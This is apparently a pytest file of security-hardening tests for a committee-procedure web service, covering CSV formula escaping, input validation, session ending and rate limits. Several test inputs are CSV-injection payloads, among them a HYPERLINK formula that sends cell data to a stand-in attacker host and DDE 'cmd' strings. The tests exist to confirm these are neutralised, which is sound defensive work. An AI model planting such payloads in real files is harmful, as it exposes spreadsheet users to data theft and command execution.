"""Hardening: what an attacker or a careless client sends is refused plainly, never a 500;
exports open as text; sessions end; the doors that take guesses are rate-limited."""
import csv
import io
import json
import re
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from notifications.models import OutboxMessage
from service.csv_export import FORMULA_STARTS
from service.extensions import db
from service.models import RateLimitCounter, WebSession
from service.procedures.labelling.models import LabellingRequest
from service.procedures.silent_procedure.models import SilentProcedure
from service.scheduler import Scheduler
from tests.helpers import T0, bearer, csrf_token, sign_in

PASSWORD = "a long passphrase"
LAUNCH = {"subject": "Conclusions of the thematic meeting", "text": "The Steering Committee endorses the conclusions.",
          "proposed_decision": "Endorse the conclusions.", "deadline": "2026-03-10T17:00",
          "timezone": "Europe/Brussels", "committees": ["steering-committee"]}
REQUEST = {
    "title": "Diaspora entrepreneurship fund", "type": "bilateral_project", "lead_partner": "SN",
    "partners": ["FR"], "implementing_organisations": ["Agence sénégalaise de promotion"],
    "start_date": "2026-04-01", "end_date": "2026-09-30", "location": "Dakar", "budget_eur": "250000.00",
    "funding_source": "Bilateral cooperation", "summary": "Seed funding for diaspora-led businesses.",
    "expected_results": "40 businesses created.", "actions": [3], "gcm_objectives": [19],
    "contact_name": "Awa Diop", "contact_email": "awa.diop@example.org",
}
BIG_ID = 2**31  # one past the largest id a row can have


@pytest.fixture(autouse=True)
def no_sessions_or_counters(database_uri):
    """Start and end without sessions or rate-limit counters left by other tests."""
    import sqlalchemy as sa

    def clear():
        engine = sa.create_engine(database_uri)
        with engine.begin() as connection:
            connection.execute(sa.text("DELETE FROM web_sessions"))
            connection.execute(sa.text("DELETE FROM rate_limit_counters"))
        engine.dispose()

    clear()
    yield
    clear()


@pytest.fixture
def people(make_account):
    """The Secretariat (token and password), a partner's focal point, two committee members."""
    made = {"officer": make_account("officer@example.org", "secretariat", password=PASSWORD)[1],
            "partner": make_account("focal.sn@example.org", "partner", partner="SN", password=PASSWORD)[1]}
    make_account("ng@example.org", "committee-member", partner="NG")
    make_account("be@example.org", "committee-member", partner="BE", language="fr")
    return made


def link(app, to, label):
    """The path of the action link whose line contains `label` in the last notice to `to`."""
    with app.app_context():
        message = db.session.scalars(select(OutboxMessage).where(OutboxMessage.to_email == to)
                                     .order_by(OutboxMessage.id.desc())).first()
    for line in message.text_body.splitlines():
        match = re.search(r"https://rabat\.example\.org(/act/\S+)", line)
        if match and label in line:
            return match.group(1)
    raise AssertionError(f"no link {label!r} for {to}")


def act(client, path, **form):
    token = csrf_token(client.get(path).get_data(as_text=True))
    return client.post(path, data={"csrf_token": token, **form})


def count(app, model, *where):
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(model).where(*where))


def csv_rows(response):
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True))))


# CSV exports ---------------------------------------------------------------------------------

def _assert_no_formula(rows):
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), cell


def test_the_record_csv_gives_formulas_as_text(app, people):
    client = app.test_client()
    subject = '=HYPERLINK("http://evil.example/steal?"&A1,"Open")'
    launched = client.post("/api/silent-procedures", json={**LAUNCH, "subject": subject}, headers=bearer(people["officer"]))
    assert launched.status_code == 201
    comment = act(app.test_client(), link(app, "ng@example.org", "Comment"),
                  comment="@SUM(1+1)*cmd|' /C calc'!A0")
    assert comment.status_code == 200
    officer = app.test_client()
    sign_in(officer, "officer@example.org")

    rows = csv_rows(officer.get(f"/silent-procedures/{launched.get_json()['id']}/record.csv"))
    _assert_no_formula(rows)
    launch_row = next(r for r in rows if r[1] == "launched")
    assert launch_row[3].startswith("'" + subject)  # the text is all there, behind an apostrophe
    comment_row = next(r for r in rows if r[1] == "comment")
    assert comment_row[3] == "'@SUM(1+1)*cmd|' /C calc'!A0"


def test_the_register_csv_gives_formulas_as_text(app, people, frozen_clock):
    client = app.test_client()
    created = client.post("/api/labelling-requests", json={**REQUEST, "title": "-2+3+cmd|' /C calc'!A0",
                                                           "location": "+33 Dakar\t=1"},
                          headers=bearer(people["partner"]))
    request_id = created.get_json()["id"]
    assert client.post(f"/api/labelling-requests/{request_id}/submit", headers=bearer(people["partner"])).status_code == 200
    accepted = client.post(f"/api/labelling-requests/{request_id}/review", headers=bearer(people["officer"]),
                           json={"decision": "accept", "deadline": "2026-03-20T17:00", "timezone": "Europe/Brussels"})
    assert accepted.status_code == 200
    frozen_clock.freeze(T0 + timedelta(days=19))
    Scheduler(app, owner="test").run_once()

    rows = csv_rows(client.get("/api/labelled-initiatives.csv"))
    _assert_no_formula(rows)
    header, entry = rows
    assert entry[header.index("title")] == "'-2+3+cmd|' /C calc'!A0"
    assert entry[header.index("location")] == "'+33 Dakar\t=1"
    assert entry[header.index("budget_eur")] == "250000.00"  # numbers stay numbers


# Input that cannot be stored -----------------------------------------------------------------

def test_ids_beyond_the_database_range_are_not_found(app, people):
    client = app.test_client()
    officer = bearer(people["officer"])
    for path in (f"/api/cases/{BIG_ID}", f"/api/silent-procedures/{BIG_ID}", f"/api/silent-procedures/{BIG_ID}/record",
                 f"/api/labelling-requests/{BIG_ID}", f"/api/cases/{10**30}"):
        response = client.get(path, headers=officer)
        assert response.status_code == 404, path
        assert response.get_json()["code"] == 404
    for path, body in ((f"/api/silent-procedures/{BIG_ID}/withdraw", {"reason": "Superseded."}),
                       (f"/api/labelling-requests/{BIG_ID}/submit", None)):
        assert client.post(path, json=body, headers=officer).status_code == 404, path
    assert client.patch(f"/api/labelling-requests/{BIG_ID}", json={"title": "x"}, headers=officer).status_code == 404
    # The largest id there can be is looked up, and not found.
    largest = client.get(f"/api/cases/{BIG_ID - 1}", headers=officer)
    assert largest.status_code == 404 and largest.get_json()["message"] == f"No case {BIG_ID - 1}."

    refused = client.get(f"/api/tasks?case={BIG_ID}", headers=officer)
    assert refused.status_code == 422
    assert refused.get_json()["errors"]["query"]["case"] == ["No case has this number."]

    pages = app.test_client()
    sign_in(pages, "officer@example.org")
    for path in (f"/silent-procedures/{BIG_ID}", f"/silent-procedures/{BIG_ID}/record.csv", f"/labelling/{BIG_ID}"):
        assert pages.get(path).status_code == 404, path


def test_nul_characters_and_lone_surrogates_are_refused_naming_the_field(app, people):
    client = app.test_client()
    officer = bearer(people["officer"])
    message = "Text may not contain NUL characters or unpaired surrogates."
    for subject in ("Conclusions\x00", "Conclusions \ud800"):
        # json.dumps writes the lone surrogate as the escape \ud800, as a client would.
        response = client.post("/api/silent-procedures", data=json.dumps({**LAUNCH, "subject": subject}),
                               content_type="application/json", headers=officer)
        assert response.status_code == 422
        assert response.get_json()["errors"] == {"json": {"subject": [message]}}
    nested = client.post("/api/labelling-requests", json={**REQUEST, "implementing_organisations": ["ok", "a\udfffb"]},
                         headers=bearer(people["partner"]))
    assert nested.status_code == 422
    assert nested.get_json()["errors"] == {"json": {"implementing_organisations": {"1": [message]}}}
    in_a_key = client.post("/api/cases", data='{"process": "two_step_review", "data": {"a\\u0000": 1}}',
                           content_type="application/json", headers=officer)
    assert in_a_key.status_code == 422
    assert count(app, SilentProcedure) == 0 and count(app, LabellingRequest) == 0

    assert client.get("/api/labelled-initiatives?partner=S%00N").status_code == 422
    assert client.get("/api/reference/action-plans/cad%00iz").status_code == 422
    assert client.get("/register?partner=%ED%A0%80").status_code == 200  # invalid UTF-8 is read as U+FFFD

    page = app.test_client()
    form = csrf_token(page.get("/sign-in").get_data(as_text=True))
    refused = page.post("/sign-in", data={"email": "officer@example.org\x00", "password": PASSWORD, "csrf_token": form})
    assert refused.status_code == 422 and "NUL" in refused.get_data(as_text=True)
    french = app.test_client()
    french.get("/sign-in?lang=fr")
    refused = french.post("/sign-in", data={"email": "a\x00", "password": "x", "csrf_token": form})
    assert refused.status_code == 422 and "caractère NUL" in refused.get_data(as_text=True)


def test_json_nested_too_deep_is_refused(app, people):
    client = app.test_client()
    officer = bearer(people["officer"])
    deepest = client.post("/api/silent-procedures", data="[" * 100_000 + "]" * 100_000,
                          content_type="application/json", headers=officer)
    assert deepest.status_code == 422
    assert deepest.get_json()["message"] == "The data may not be nested more than 32 levels deep."

    def case_with(depth):  # the body is the first level
        data = "1"
        for _ in range(depth - 1):
            data = '{"a": ' + data + "}"
        body = '{"process": "two_step_review", "data": ' + data + "}"
        return client.post("/api/cases", data=body, content_type="application/json", headers=officer)

    assert case_with(33).status_code == 422
    assert case_with(32).status_code == 201  # the process takes any data


def test_a_deadline_beyond_the_last_date_is_refused_with_a_message(app, people):
    client = app.test_client()
    officer = bearer(people["officer"])
    for deadline, zone in (("9999-12-31T23:00", "Etc/GMT+12"), ("0001-01-01T00:30", "Etc/GMT-14")):
        response = client.post("/api/silent-procedures", json={**LAUNCH, "deadline": deadline, "timezone": zone},
                               headers=officer)
        assert response.status_code == 422
        assert "beyond the dates the service can handle" in response.get_json()["errors"]["json"]["deadline"][0]
    procedure = client.post("/api/silent-procedures", json=LAUNCH, headers=officer).get_json()
    extended = client.post(f"/api/silent-procedures/{procedure['id']}/extend", headers=officer,
                           json={"deadline": "9999-12-31T23:00", "timezone": "Etc/GMT+12", "reason": "More time."})
    assert extended.status_code == 422 and "deadline" in extended.get_json()["errors"]["json"]

    far = client.post("/api/labelling-requests", json={**REQUEST, "end_date": "9999-12-31"}, headers=bearer(people["partner"]))
    assert far.status_code == 422
    assert far.get_json()["errors"]["json"]["end_date"] == ["Give a date between 1990 and 2100."]

    pages = app.test_client()
    sign_in(pages, "officer@example.org")
    form = csrf_token(pages.get("/silent-procedures/new").get_data(as_text=True))
    page = pages.post("/silent-procedures/new", data={**LAUNCH, "deadline": "9999-12-31T23:00",
                                                      "timezone": "Etc/GMT+12", "csrf_token": form})
    assert page.status_code == 422 and "beyond the dates the service can handle" in page.get_data(as_text=True)
    assert count(app, SilentProcedure) == 1


def test_a_request_over_the_size_limit_is_refused_before_it_is_read(app, people):
    client = app.test_client()
    ten_mb = "A" * (10 * 1024 * 1024 * 4 // 3)  # base64 of 10 MB
    documents = [{"filename": f"annex-{n}.pdf", "content_type": "application/pdf", "content": ten_mb} for n in range(4)]
    response = client.post("/api/silent-procedures", json={**LAUNCH, "documents": documents},
                           headers=bearer(people["officer"]))
    assert response.status_code == 413
    assert response.get_json()["message"] == "The request is larger than 32 MB, the most the service accepts."
    assert count(app, SilentProcedure) == 0


def test_a_document_over_its_limit_is_refused_naming_it(make_app, people):
    app = make_app(DOCUMENT_MAX_BYTES=512 * 1024, MAX_CONTENT_LENGTH=2 * 1024 * 1024)
    client = app.test_client()
    import base64

    big = base64.b64encode(b"%PDF" + b"x" * (600 * 1024)).decode()
    response = client.post("/api/silent-procedures", headers=bearer(people["officer"]), json={
        **LAUNCH, "documents": [{"filename": "annex.pdf", "content_type": "application/pdf", "content": big}]})
    assert response.status_code == 422
    assert response.get_json()["errors"]["json"]["documents"]["0"]["content"] == ["A document may not exceed 0.5 MB."]
    # The web form: the same limit, and over the request limit a page that says so.
    pages = app.test_client()
    sign_in(pages, "officer@example.org")
    form = csrf_token(pages.get("/silent-procedures/new").get_data(as_text=True))
    page = pages.post("/silent-procedures/new", content_type="multipart/form-data", data={
        **LAUNCH, "deadline": "2026-03-10T17:00", "csrf_token": form,
        "documents": (io.BytesIO(b"x" * (3 * 1024 * 1024)), "annex.pdf", "application/pdf")})
    assert page.status_code == 413 and "larger than 2 MB" in page.get_data(as_text=True)
    assert count(app, SilentProcedure) == 0


def test_lists_no_longer_than_what_exists(app, people):
    client = app.test_client()
    partner = bearer(people["partner"])
    flood = client.post("/api/labelling-requests", json={**REQUEST, "partners": ["FR"] * 1_000_000}, headers=partner)
    assert flood.status_code == 422
    assert flood.get_json()["errors"]["json"]["partners"] == ["At most 63: there are no more partners."]
    twice = client.post("/api/labelling-requests", json={**REQUEST, "partners": ["FR", "FR"], "actions": [3, 3]},
                        headers=partner)
    assert twice.status_code == 422
    assert twice.get_json()["errors"]["json"] == {"partners": ["Name each one once."], "actions": ["Name each one once."]}
    many_actions = client.post("/api/labelling-requests", json={**REQUEST, "gcm_objectives": list(range(1, 25))},
                               headers=partner)
    assert many_actions.get_json()["errors"]["json"]["gcm_objectives"] == [
        "At most 23: there are no more objectives in the Global Compact."]
    assert count(app, LabellingRequest) == 0
    committees = client.post("/api/silent-procedures", json={**LAUNCH, "committees": ["steering-committee"] * 1000},
                             headers=bearer(people["officer"]))
    assert committees.status_code == 422 and "there are no more committees" in committees.get_json()["errors"]["json"]["committees"][0]
    assert count(app, SilentProcedure) == 0


def test_messages_on_a_list_and_on_its_items_come_back_together(app, people):
    # marshmallow keys an item's message by its index, beside the list's own `_schema`.
    response = app.test_client().post("/api/labelling-requests", headers=bearer(people["partner"]),
                                      json={**REQUEST, "partners": ["x" * 21, "ZZ"]})
    assert response.status_code == 422
    assert response.get_json()["errors"]["json"]["partners"] == {
        "0": ["At most 20 characters."], "_schema": ["Unknown partner: ZZ."]}


# Sessions --------------------------------------------------------------------------------------

def _signed_in(client) -> bool:
    response = client.get("/labelling")
    return response.status_code == 200


def test_signing_out_ends_the_session_for_every_copy_of_the_cookie(app, people):
    browser = app.test_client()
    assert sign_in(browser, "focal.sn@example.org").status_code == 302
    stolen = browser.get_cookie("session").value
    assert _signed_in(browser)
    page = browser.get("/").get_data(as_text=True)
    browser.post("/sign-out", data={"csrf_token": csrf_token(page)})
    assert not _signed_in(browser)

    replay = app.test_client()
    replay.set_cookie("session", stolen)
    response = replay.get("/labelling")
    assert response.status_code == 302 and response.headers["Location"].endswith("/sign-in")
    assert count(app, WebSession) == 0


def test_a_new_password_ends_every_session_of_its_account(app, people):
    laptop, phone = app.test_client(), app.test_client()
    sign_in(laptop, "focal.sn@example.org")
    sign_in(phone, "focal.sn@example.org")
    officer = app.test_client()
    sign_in(officer, "officer@example.org")
    assert _signed_in(laptop) and _signed_in(phone)

    changed = app.test_cli_runner().invoke(args=["users", "create", "focal.sn@example.org", "--role", "partner",
                                                 "--password-stdin"], input="another long passphrase\n")
    assert changed.exit_code == 0, changed.output
    assert not _signed_in(laptop) and not _signed_in(phone)
    assert _signed_in(officer)  # other accounts keep theirs
    assert sign_in(laptop, "focal.sn@example.org", PASSWORD).status_code == 401
    assert sign_in(laptop, "focal.sn@example.org", "another long passphrase").status_code == 302


def test_a_session_ends_after_its_idle_time_and_at_its_absolute_limit(app, people, frozen_clock):
    idle = app.test_client()
    sign_in(idle, "focal.sn@example.org")
    frozen_clock.advance(timedelta(hours=1, minutes=59))
    assert _signed_in(idle)  # each request moves the idle limit on
    frozen_clock.advance(timedelta(hours=1, minutes=59))
    assert _signed_in(idle)
    frozen_clock.advance(timedelta(hours=2))
    assert not _signed_in(idle)

    busy = app.test_client()
    sign_in(busy, "focal.sn@example.org")
    for _ in range(11):
        frozen_clock.advance(timedelta(hours=1))
        assert _signed_in(busy)
    frozen_clock.advance(timedelta(hours=1))  # 12 hours after signing in, however busy
    assert not _signed_in(busy)
    assert count(app, WebSession) == 0


def test_the_cookie_is_secure_and_hsts_sent_when_the_service_is_on_https(make_app, people):
    https = make_app()  # PUBLIC_BASE_URL https://rabat.example.org
    signed = sign_in(https.test_client(), "officer@example.org")
    cookie = signed.headers["Set-Cookie"]
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Lax" in cookie
    assert https.test_client().get("/register").headers["Strict-Transport-Security"] == "max-age=31536000"

    plain = make_app(PUBLIC_BASE_URL="http://127.0.0.1:5000")
    signed = sign_in(plain.test_client(), "officer@example.org")
    assert "Secure" not in signed.headers["Set-Cookie"]
    assert "Strict-Transport-Security" not in plain.test_client().get("/register").headers


def test_link_and_sign_in_pages_are_never_stored(app, people):
    client = app.test_client()
    client.post("/api/silent-procedures", json=LAUNCH, headers=bearer(people["officer"]))
    path = link(app, "ng@example.org", "No objection")
    assert client.get("/sign-in").headers["Cache-Control"] == "no-store"
    assert client.get(path).headers["Cache-Control"] == "no-store"
    assert act(client, path).headers["Cache-Control"] == "no-store"
    assert client.get("/act/forged-token").headers["Cache-Control"] == "no-store"
    assert "no-store" not in client.get("/register").headers.get("Cache-Control", "")


# Rate limits ------------------------------------------------------------------------------------

def _sign_in_attempt(client, email, password, address="192.0.2.1"):
    form = csrf_token(client.get("/sign-in").get_data(as_text=True))
    return client.post("/sign-in", data={"email": email, "password": password, "csrf_token": form},
                       environ_base={"REMOTE_ADDR": address})


def _retry_after(response) -> int:
    seconds = int(response.headers["Retry-After"])
    assert 0 < seconds
    return seconds


def test_wrong_passwords_lock_the_account_even_for_the_right_one(make_app, people):
    app = make_app(RATELIMIT_ENABLED=True, RATELIMIT_SIGN_IN_PER_ACCOUNT="3 per 15 minutes")
    client = app.test_client()
    assert _sign_in_attempt(client, "focal.sn@example.org", PASSWORD).status_code == 302  # success does not count
    for attempt in range(3):
        assert _sign_in_attempt(client, "focal.sn@example.org", f"guess {attempt}").status_code == 401
    refused = _sign_in_attempt(client, "focal.sn@example.org", "guess 4")
    assert refused.status_code == 429 and _retry_after(refused) <= 15 * 60
    assert "Too many attempts. Try again in" in refused.get_data(as_text=True)
    right = _sign_in_attempt(client, "Focal.SN@example.org ", PASSWORD, address="198.51.100.7")
    assert right.status_code == 429  # the account, from any address, in any spelling
    assert _sign_in_attempt(client, "officer@example.org", PASSWORD).status_code == 302


def test_wrong_passwords_from_one_address_are_limited_whatever_the_account(make_app, people):
    app = make_app(RATELIMIT_ENABLED=True, RATELIMIT_SIGN_IN_PER_ADDRESS="4 per 15 minutes")
    client = app.test_client()
    for n in range(4):
        assert _sign_in_attempt(client, f"someone{n}@example.org", "guess").status_code == 401
    assert _sign_in_attempt(client, "officer@example.org", PASSWORD).status_code == 429
    assert _sign_in_attempt(client, "officer@example.org", PASSWORD, address="192.0.2.2").status_code == 302


def test_link_posts_are_limited_per_link_and_per_address(make_app, people):
    app = make_app(RATELIMIT_ENABLED=True, RATELIMIT_LINKS_PER_LINK="2 per 10 minutes",
                   RATELIMIT_LINKS_PER_ADDRESS="3 per 10 minutes")
    client = app.test_client()
    client.post("/api/silent-procedures", json=LAUNCH, headers=bearer(people["officer"]))
    comment = link(app, "ng@example.org", "Comment")
    other, acknowledge = link(app, "be@example.org", "Commenter"), link(app, "be@example.org", "accuser réception")
    token = csrf_token(client.get(comment).get_data(as_text=True))
    for _ in range(2):
        client.post(comment, data={"csrf_token": token, "comment": "A remark."})
    refused = client.post(comment, data={"csrf_token": token, "comment": "A remark."})
    assert refused.status_code == 429 and _retry_after(refused) <= 600
    assert client.get(comment).status_code == 200  # reading the page is not limited
    # Another link from the same address: one more POST, then the address's limit.
    assert client.post(other, data={"csrf_token": token, "comment": "Une remarque."}).status_code == 200
    assert client.post(other, data={"csrf_token": token, "comment": "Une remarque."}).status_code == 429
    elsewhere = client.post(acknowledge, data={"csrf_token": token},
                            environ_base={"REMOTE_ADDR": "203.0.113.9"})
    assert elsewhere.status_code == 200


def test_the_api_is_limited_per_account_and_per_address(make_app, people):
    app = make_app(RATELIMIT_ENABLED=True, RATELIMIT_API_PER_ACCOUNT="5 per minute",
                   RATELIMIT_API_PER_ADDRESS="8 per minute")
    client = app.test_client()
    officer, partner = bearer(people["officer"]), bearer(people["partner"])
    for _ in range(5):
        assert client.get("/api/tasks", headers=officer, environ_base={"REMOTE_ADDR": "192.0.2.10"}).status_code == 200
    refused = client.get("/api/silent-procedures/1", headers=officer, environ_base={"REMOTE_ADDR": "192.0.2.11"})
    assert refused.status_code == 429 and _retry_after(refused) <= 60
    assert refused.get_json()["message"].startswith("Too many attempts. Try again in")
    # The partner's account is its own; from the first address it has 3 left for that address.
    for _ in range(3):
        assert client.get("/api/labelling-requests", headers=partner,
                          environ_base={"REMOTE_ADDR": "192.0.2.10"}).status_code == 200
    assert client.get("/api/reference/partners", environ_base={"REMOTE_ADDR": "192.0.2.10"}).status_code == 429
    assert client.get("/api/reference/partners", environ_base={"REMOTE_ADDR": "192.0.2.12"}).status_code == 200


def test_the_counters_are_shared_by_every_server_process(make_app, people):
    # Two apps with their own connection pools stand for two server processes.
    first, second = (make_app(RATELIMIT_ENABLED=True, RATELIMIT_API_PER_ACCOUNT="4 per minute") for _ in range(2))
    officer = bearer(people["officer"])
    for app in (first, second, first, second):
        assert app.test_client().get("/api/tasks", headers=officer).status_code == 200
    assert second.test_client().get("/api/tasks", headers=officer).status_code == 429
    assert first.test_client().get("/api/tasks", headers=officer).status_code == 429
    assert count(first, RateLimitCounter) == 2  # per account and per address; keys are hashed
    with first.app_context():
        assert "officer" not in " ".join(db.session.scalars(select(RateLimitCounter.key_hash)))
